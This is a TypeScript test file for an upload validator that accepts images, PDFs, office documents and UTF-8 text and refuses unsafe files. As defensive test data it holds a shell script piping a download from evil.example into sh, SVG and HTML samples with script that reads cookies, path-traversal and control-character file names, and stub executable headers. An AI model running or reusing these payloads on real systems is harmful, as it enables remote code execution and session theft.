import { crc32 } from "node:zlib";
import PDFDocument from "pdfkit";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import writeXlsxFile from "write-excel-file/node";
import { AppError } from "../errors.ts";
import { catalogs } from "../i18n/catalogs.ts";
import { createTranslator } from "../i18n/translator.ts";
import { translateFieldMessage } from "../http/problem.ts";
import { checkUpload, maxDisplayNameLength, sizeLimitOf, type UploadPolicy } from "./check-upload.ts";

const MB = 1024 * 1024;
const images: UploadPolicy = { kinds: ["image"], maxBytes: 2 * MB };
const documents: UploadPolicy = { kinds: ["document"], maxBytes: 10 * MB };
const anything: UploadPolicy = { kinds: ["image", "document"], maxBytes: 10 * MB };
const text = (s: string) => new TextEncoder().encode(s);

const picture = (format: "png" | "jpeg" | "webp") =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: "#2a7ab0" } })
    .toFormat(format)
    .toBuffer()
    .then((b) => new Uint8Array(b));

async function pdf(): Promise<Uint8Array> {
  const doc = new PDFDocument();
  const chunks: Buffer[] = [];
  doc.on("data", (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => doc.on("end", resolve));
  doc.text("Presupuesto participativo de Porto Alegre");
  doc.end();
  await done;
  return new Uint8Array(Buffer.concat(chunks));
}

/** A zip whose entries are stored uncompressed: enough for the office formats' signatures. */
function zip(entries: Record<string, string>): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(content);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(centrals.length / 2, 8);
  end.writeUInt16LE(centrals.length / 2, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

const docx = () =>
  zip({
    "[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    "word/document.xml": "<w:document/>",
  });
const odt = () => zip({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>" });

/** The field messages of a refusal (fails the test when there is none). */
async function refusal(promise: Promise<unknown>): Promise<Record<string, string[]>> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe("invalid");
  return (error as AppError).fieldErrors!;
}

describe("checkUpload: what is accepted", () => {
  it("takes PNG, JPEG and WebP images made by an image library, by their content", async () => {
    for (const [format, contentType, extension] of [
      ["png", "image/png", "png"],
      ["jpeg", "image/jpeg", "jpg"],
      ["webp", "image/webp", "webp"],
    ] as const) {
      const bytes = await picture(format);
      const checked = await checkUpload(bytes, `Plaza ${format}.${extension}`, images);
      expect(checked).toMatchObject({ contentType, extension, kind: "image", displayName: `Plaza ${format}.${extension}` });
      expect(checked.bytes).toBe(bytes);
    }
  });

  it("takes PDF, Word, Excel and OpenDocument files as documents", async () => {
    expect(await checkUpload(await pdf(), "informe.pdf", documents)).toMatchObject({ contentType: "application/pdf", extension: "pdf", kind: "document" });
    expect(await checkUpload(docx(), "memoria.docx", documents)).toMatchObject({ extension: "docx", contentType: expect.stringContaining("wordprocessingml") });
    const xlsx = new Uint8Array(await writeXlsxFile([[{ value: "Ciudad" }], [{ value: "Rosario" }]]).toBuffer());
    expect(await checkUpload(xlsx, "presupuesto.xlsx", documents)).toMatchObject({ extension: "xlsx", contentType: expect.stringContaining("spreadsheetml") });
    expect(await checkUpload(odt(), "acta.odt", documents)).toMatchObject({ extension: "odt", contentType: "application/vnd.oasis.opendocument.text" });
  });

  it("takes UTF-8 text and CSV under those names only", async () => {
    const csv = text("ciudad,país\nSão Paulo,Brasil\nBogotá,Colombia\n");
    expect(await checkUpload(csv, "ciudades.csv", documents)).toMatchObject({ contentType: "text/csv; charset=utf-8", extension: "csv", displayName: "ciudades.csv" });
    expect(await checkUpload(text("\uFEFFNotas de la reunión\r\n"), "notas.TXT", documents)).toMatchObject({ contentType: "text/plain; charset=utf-8", displayName: "notas.TXT" });
    expect(await refusal(checkUpload(csv, "ciudades", documents))).toEqual({ file: ["i18n:storage.typeNotAllowed.document"] });
    expect(await refusal(checkUpload(csv, "ciudades.csv", images))).toEqual({ file: ["i18n:storage.typeNotAllowed.image"] });
  });

  it("says so when a CSV is not in UTF-8 (as Excel saves it in Windows-1252)", async () => {
    const latin1 = new Uint8Array([...text("ciudad\nBogot"), 0xe1, 0x0a]);
    expect(await refusal(checkUpload(latin1, "ciudades.csv", documents))).toEqual({ file: ["i18n:storage.textEncoding"] });
  });

  it("corrects a name whose extension contradicts the content: the content decides", async () => {
    expect((await checkUpload(await pdf(), "foto.jpg", anything)).displayName).toBe("foto.pdf");
    expect((await checkUpload(await picture("jpeg"), "logo.png", images)).displayName).toBe("logo.jpg");
    expect((await checkUpload(await picture("jpeg"), "FOTO.JPEG", images)).displayName).toBe("FOTO.JPEG");
    expect((await checkUpload(await picture("png"), "plano de Quito", images)).displayName).toBe("plano de Quito.png");
    // …but only to a type the policy allows.
    expect(await refusal(checkUpload(await pdf(), "foto.pdf", images))).toEqual({ file: ["i18n:storage.typeNotAllowed.image"] });
  });
});

describe("checkUpload: display names", () => {
  it("are NFC, without invisible direction marks, one space at a time, and never empty", async () => {
    const png = await picture("png");
    expect((await checkUpload(png, "Sa\u0303o  Paulo .png", images)).displayName).toBe("São Paulo.png");
    // A right-to-left override would show "informe\u202Egnp.exe" as "informeexe.png".
    expect((await checkUpload(png, "informe\u202Egnp.exe", images)).displayName).toBe("informegnp.png");
    expect((await checkUpload(png, "", images)).displayName).toBe("file.png");
    expect((await checkUpload(png, ".png", images)).displayName).toBe("file.png");
    expect((await checkUpload(png, "...hidden.png", images)).displayName).toBe("hidden.png");
  });

  it("are cut to a limit without splitting a character", async () => {
    const name = `${"Prefeitura de Belo Horizonte 🇧🇷 ".repeat(10)}.png`;
    const { displayName } = await checkUpload(await picture("png"), name, images);
    expect([...new Intl.Segmenter().segment(displayName)].length).toBeLessThanOrEqual(maxDisplayNameLength);
    expect(displayName).toMatch(/^Prefeitura de Belo Horizonte .*\.png$/);
    expect(displayName).not.toMatch(/\uD83C\.png$/);
  });
});

describe("checkUpload: what is refused, on the field named", () => {
  it("an empty file", async () => {
    expect(await refusal(checkUpload(new Uint8Array(), "foto.png", images))).toEqual({ file: ["i18n:storage.empty"] });
    expect(await refusal(checkUpload(new Uint8Array(), "foto.png", images, "cover"))).toEqual({ cover: ["i18n:storage.empty"] });
  });

  it("a file over the limit, saying the limit, before reading what it is", async () => {
    const bomb = new Uint8Array(2 * MB + 1); // zeros: a zip bomb's worth of nothing
    expect(await refusal(checkUpload(bomb, "bomba.zip", images))).toEqual({ file: ['i18n:storage.tooLarge|{"size":2,"unit":"MB"}'] });
    expect(await refusal(checkUpload(new Uint8Array(300 * 1024), "a.png", { kinds: ["image"], maxBytes: 200 * 1024 }))).toEqual({
      file: ['i18n:storage.tooLarge|{"size":200,"unit":"KB"}'],
    });
    expect((await checkUpload(await picture("png"), "a.png", { kinds: ["image"], maxBytes: 1024 })).extension).toBe("png");
  });

  it("a renamed program, as a program", async () => {
    const elf = new Uint8Array(128);
    elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
    elf.set([2, 0, 0x3e, 0], 16);
    const pe = new Uint8Array(256);
    pe.set([0x4d, 0x5a, 0x90, 0]);
    pe.set([0x80, 0, 0, 0], 0x3c);
    pe.set([0x50, 0x45, 0, 0, 0x64, 0x86], 0x80);
    const machO = new Uint8Array(64);
    machO.set([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0, 0, 0x01]);
    const javaClass = new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41, 0, 0x10]);
    const jar = zip({ "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: Evil\n" });
    for (const [bytes, name] of [
      [elf, "foto.jpg"],
      [pe, "foto.jpg"],
      [pe, "informe.pdf"],
      [machO, "planilla.xlsx"],
      [javaClass, "notas.txt"],
      [jar, "acta.docx"],
      [text("#!/bin/sh\ncurl https://evil.example | sh\n"), "notas.txt"],
      [text("\uFEFF#!/usr/bin/env python3\nimport os\n"), "datos.csv"],
    ] as const) {
      expect(await refusal(checkUpload(bytes, name, anything)), name).toEqual({ file: ["i18n:storage.program"] });
    }
  });

  it("a type not on the list, naming the allowed ones for the policy", async () => {
    const svg = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const html = text("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>");
    const gif = new Uint8Array([...text("GIF89a"), 1, 0, 1, 0, 0, 0, 0, 0x3b]);
    const plainZip = zip({ "leeme.txt": "hola" });
    expect(await refusal(checkUpload(svg, "logo.svg", images))).toEqual({ file: ["i18n:storage.typeNotAllowed.image"] });
    expect(await refusal(checkUpload(gif, "animación.gif", images))).toEqual({ file: ["i18n:storage.typeNotAllowed.image"] });
    expect(await refusal(checkUpload(html, "pagina.html", documents))).toEqual({ file: ["i18n:storage.typeNotAllowed.document"] });
    expect(await refusal(checkUpload(svg, "logo", anything))).toEqual({ file: ["i18n:storage.typeNotAllowed.any"] });
    expect(await refusal(checkUpload(plainZip, "fotos.zip", anything))).toEqual({ file: ["i18n:storage.typeNotAllowed.any"] });
    expect(await refusal(checkUpload(await picture("png"), "foto.png", documents))).toEqual({ file: ["i18n:storage.typeNotAllowed.document"] });
  });

  it("a file whose content is not what its name says, saying so rather than listing the allowed types", async () => {
    const mismatch = (extension: string) => ({ file: [`i18n:storage.contentMismatch|${JSON.stringify({ extension, type: extension.toUpperCase() })}`] });
    const svg = text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>');
    const html = text("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>");
    expect(await refusal(checkUpload(text("Notas de la reunión\n"), "plaza.png", anything))).toEqual(mismatch("png"));
    expect(await refusal(checkUpload(text("Notas de la reunión\n"), "plaza.JPEG", images))).toEqual(mismatch("jpeg"));
    expect(await refusal(checkUpload(svg, "logo.png", images))).toEqual(mismatch("png"));
    expect(await refusal(checkUpload(await pdf(), "foto.jpg", images))).toEqual(mismatch("jpg"));
    expect(await refusal(checkUpload(text("no es un documento"), "informe.docx", documents))).toEqual(mismatch("docx"));
    // Markup a browser would run is not plain text, whatever the name says.
    expect(await refusal(checkUpload(html, "pagina.txt", documents))).toEqual(mismatch("txt"));
    expect(await refusal(checkUpload(new Uint8Array([0, 1, 2, 3, 0, 0]), "datos.csv", documents))).toEqual(mismatch("csv"));
  });

  it("a name with folders, traversal, a drive, NUL or control characters", async () => {
    const png = await picture("png");
    for (const name of ["../../etc/passwd", "..\\..\\windows\\system.ini", "/etc/passwd", "fotos/plaza.png", "C:\\Users\\ana\\plaza.png", "C:plaza.png", "plaza.png\u0000.exe", "plaza\n.png", "plaza\u001b.png", "..", "."]) {
      expect(await refusal(checkUpload(png, name, images)), JSON.stringify(name)).toEqual({ file: ["i18n:storage.nameUnsafe"] });
    }
  });
});

describe("refusals as people read them", () => {
  it("say the limit in their language", async () => {
    const fields = await refusal(checkUpload(new Uint8Array(1.5 * MB + 1), "a.png", { kinds: ["image"], maxBytes: 1.5 * MB }));
    const es = createTranslator("es", catalogs.es);
    const en = createTranslator("en", catalogs.en);
    expect(translateFieldMessage(es, fields.file![0]!)).toBe("el archivo pesa más de 1,5 MB: redúzcalo o elija otro");
    expect(translateFieldMessage(en, fields.file![0]!)).toBe("the file is larger than 1.5 MB: make it smaller or choose another one");
    expect(translateFieldMessage(en, "i18n:storage.program")).toBe("this file is a program, and programs cannot be uploaded");
    const renamed = (await refusal(checkUpload(text("Notas\n"), "plaza.png", anything))).file![0]!;
    expect(translateFieldMessage(es, renamed)).toBe(
      "el contenido del archivo no corresponde a su nombre: termina en .png pero no es un archivo PNG; elija el archivo original o guárdelo de nuevo en ese formato",
    );
    expect(translateFieldMessage(createTranslator("pt", catalogs.pt), renamed)).toMatch(/^o conteúdo do arquivo não corresponde ao nome: termina em \.png mas não é um arquivo PNG/);
    expect(translateFieldMessage(en, renamed)).toMatch(/^the file’s content does not match its name: it ends in \.png but is not a PNG file/);
    expect(translateFieldMessage(en, renamed)).not.toContain("TXT");
    expect(translateFieldMessage(en, "already plain")).toBe("already plain");
  });

  it("round sizes down, so the limit said is never more than the real one", () => {
    expect(sizeLimitOf(10 * MB)).toEqual({ size: 10, unit: "MB" });
    expect(sizeLimitOf(MB + MB / 3)).toEqual({ size: 1.3, unit: "MB" });
    expect(sizeLimitOf(500 * 1024 + 700)).toEqual({ size: 500, unit: "KB" });
  });
});
